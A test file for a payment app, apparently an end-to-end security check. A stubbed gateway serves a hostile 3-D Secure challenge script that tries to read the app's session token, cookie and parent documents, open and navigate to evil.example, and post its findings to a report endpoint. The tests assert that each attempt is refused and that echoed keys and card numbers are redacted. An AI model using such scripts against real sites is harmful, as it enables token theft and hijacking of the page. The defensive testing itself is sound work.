// A hostile gateway against the preview (walk32): a sandbox profile's gateway (a server of this
// test, on loopback) answers a card sale with a 3-D Secure page whose script tries the top
// window, the parent's document, the app's storage and token, a new window, and the preview's
// API, and reports what it could do back to that server; then it refuses a sale echoing the key
// and the card behind JSON escapes, and nothing of them is in the data folder or on the page.
// Real Chromium, the real keychain, the SQLite ledger file.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { readFileSync } from 'node:fs';
import { filesUnder } from './support/leak-surfaces';
import { openSession, type E2eSession } from './support/session';
import { callApi } from './support/practice-control';
import { typeCardPayment } from './support/test-card';
import { describeWithKeychain, forgetKeysOf } from '../vault/support/keychain';

const apiKey = 'sk_test/Walk32/Hostile_key';
const cardNumber = '4111111111111111';
/** The answer to the next sale: a challenge, or a refusal that echoes the key (as PHP writes it) and the card (as \u escapes). */
let saleAnswer: 'challenge' | 'echo' = 'challenge';
const echoed = () => {
  const php = apiKey.replace(/\//g, '\\/');
  const card = [...cardNumber].map((d) => `\\u00${d.charCodeAt(0).toString(16)}`).join('');
  return `{"code":400,"message":"Invalid key ${php}","errorCode":"BAD_REQUEST","data":{"request":{"headers":{"X-API-KEY":"${php}"},"card":{"cardNumber":"${card}","cardCvv":"123"}}}}`;
};

describeWithKeychain('a hostile gateway', () => {
  let session: E2eSession;
  let gateway: Server;
  let reports: Record<string, string> = {};
  let previewOrigin = '';

  const challengeHtml = (origin: string) => `<!doctype html><html><body><p>challenge</p><script>
  (async () => {
    const out = {};
    const attempt = async (name, f) => { try { out[name] = 'did: ' + String(await f()).slice(0, 80); } catch (e) { out[name] = 'refused: ' + e.name; } };
    await attempt('topDocument', () => top.document.body.innerText);
    await attempt('parentDocument', () => parent.document.title);
    await attempt('ownStorage', () => sessionStorage.getItem('paydesk.previewToken'));
    await attempt('ownCookie', () => document.cookie);
    await attempt('paydeskBridge', () => { if (!top.paydesk) throw new TypeError('none'); return 'present'; });
    await attempt('newWindow', () => { if (!window.open('https://evil.example/')) throw new TypeError('blocked'); return 'opened'; });
    await attempt('apiJson', async () => (await fetch('${origin}/api/call/listProfiles', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status);
    await attempt('apiNoCors', async () => (await fetch('${origin}/api/call/listProfiles', { method: 'POST', mode: 'no-cors', body: '{}' })).type);
    await attempt('appIndex', async () => (await (await fetch('${origin}/')).text()).length);
    await attempt('topNavigation', () => { top.location.href = 'https://evil.example/'; return 'asked'; });
    await fetch(REPORT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(out) });
  })();
  </script></body></html>`;

  beforeAll(async () => {
    gateway = createServer((req, res) => {
      let body = '';
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        if (req.url === '/report') {
          reports = JSON.parse(body) as Record<string, string>;
          return void res.end();
        }
        res.writeHead(200, { 'content-type': 'application/json' });
        const port = (gateway.address() as { port: number }).port;
        const html = challengeHtml(previewOrigin).replace('REPORT', `'http://127.0.0.1:${port}/report'`);
        if (req.url?.endsWith('/s2s/sale') && saleAnswer === 'echo') return void res.end(echoed());
        if (req.url?.endsWith('/s2s/sale')) return void res.end(JSON.stringify({ code: 200, data: { transactionId: 'walk32-t1', status: '3DS', html } }));
        res.end(JSON.stringify({ code: 200, data: { transactionId: 'walk32-t1', status: 'Pending' } }));
      });
    });
    await new Promise<void>((resolve) => gateway.listen(0, '127.0.0.1', resolve));
    session = await openSession();
    previewOrigin = session.preview.origin;
    await session.page.goto(session.preview.url);
    await session.page.locator('main').waitFor();
    const port = (gateway.address() as { port: number }).port;
    const profile = await callApi<{ id: string }>(session.page, 'createProfile', { name: 'Hostile sandbox', environment: 'sandbox', baseUrl: `http://127.0.0.1:${port}/api/v1`, defaultCurrency: 'SAR', successUrl: 'https://shop.example/ok', failureUrl: 'https://shop.example/no' });
    await callApi(session.page, 'setProfileKey', { id: profile.id, key: apiKey });
    await callApi(session.page, 'switchProfile', { id: profile.id });
  });
  afterAll(async () => {
    if (session) await forgetKeysOf(session.preview.dataDir);
    await session?.close();
    gateway?.close();
  });

  it('cannot reach the app, its token or its API, nor move the window', async () => {
    const page = session.page;
    await page.reload();
    await page.getByTestId('active-profile-name').filter({ hasText: 'Hostile sandbox' }).waitFor();
    // The gateway here answers any sale with its 3-D Secure page.
    await typeCardPayment(page, { amount: '99.90' });
    await page.getByTestId('challenge-frame').waitFor();
    await expect.poll(() => Object.keys(reports).length, { timeout: 15_000 }).toBeGreaterThan(0);
    expect(new URL(page.url()).origin).toBe(previewOrigin);
    for (const name of ['topDocument', 'parentDocument', 'ownStorage', 'ownCookie', 'paydeskBridge', 'newWindow', 'apiJson', 'appIndex', 'topNavigation']) expect(reports[name], name).toMatch(/^refused/);
    expect(reports.apiNoCors).toBe('did: opaque'); // sent blind, refused by the preview (Origin: null) and unreadable
  });

  it('keeps nothing of a key or card echoed behind JSON escapes: not in any file of the data folder (the ledger, its WAL, the log, profiles), nor in the answer', async () => {
    saleAnswer = 'echo';
    const page = session.page;
    const answer = await page.evaluate(async () => {
      const token = sessionStorage.getItem('paydesk.previewToken');
      const card = { number: '4111111111111111', holder: 'OMAR SALEH', expiryMonth: '01', expiryYear: '2039', cvv: '123' };
      const body = { amount: '10.00', currency: 'SAR', card, customer: { name: 'Omar Saleh', email: 'omar@example.com', phone: '+966500000002' }, authOnly: false };
      return (await fetch('/api/call/chargeCard', { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) })).text();
    });
    expect(answer).toContain('[redacted]');
    const forms = [apiKey, apiKey.replace(/\//g, '\\/'), 'Walk32', cardNumber, '\\u0034\\u0031\\u0031\\u0031'];
    // Every file of the data folder but the V8 code cache (the app's own compiled scripts).
    const files = filesUnder(session.preview.dataDir).filter((f) => !f.includes('code-cache'));
    expect(files.some((f) => /\.sqlite/.test(f))).toBe(true);
    for (const file of files) {
      const bytes = readFileSync(file).toString('latin1');
      for (const form of forms) expect(bytes.includes(form), `${form} in ${file}`).toBe(false);
    }
    for (const form of forms) expect(answer.includes(form), `${form} in the answer`).toBe(false);
  });
});
